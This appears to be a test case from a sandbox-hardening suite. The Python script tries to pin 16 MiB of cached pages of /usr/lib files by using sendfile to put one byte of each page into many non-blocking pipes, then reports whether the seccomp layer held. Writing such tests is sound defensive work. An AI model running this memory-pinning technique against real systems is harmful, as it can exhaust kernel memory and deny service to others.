# attack: pin cached pages of system files with pipes that hold one byte of each
# class: resources
# layer: seccomp
# expect: held

PAGE, WANTED = 4096, 16 << 20
pipes, pinned = [], 0


def pages():
    for folder, _, names in os.walk("/usr/lib"):
        for name in names:
            try:
                fd = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
            except OSError:
                continue
            for offset in range(0, os.fstat(fd).st_size, PAGE):
                yield fd, offset
            os.close(fd)


def pipe():
    pipes.append(os.pipe())
    os.set_blocking(pipes[-1][1], False)


error = None
try:
    pipe()
    for fd, offset in pages():
        if pinned >= WANTED:
            break
        try:
            pinned += PAGE * os.sendfile(pipes[-1][1], fd, offset, 1)
        except BlockingIOError:
            pipe()
except OSError as refusal:
    error = refusal
verdict(pinned >= WANTED, pinned >> 20, "MiB pinned by", len(pipes), "pipes", error)
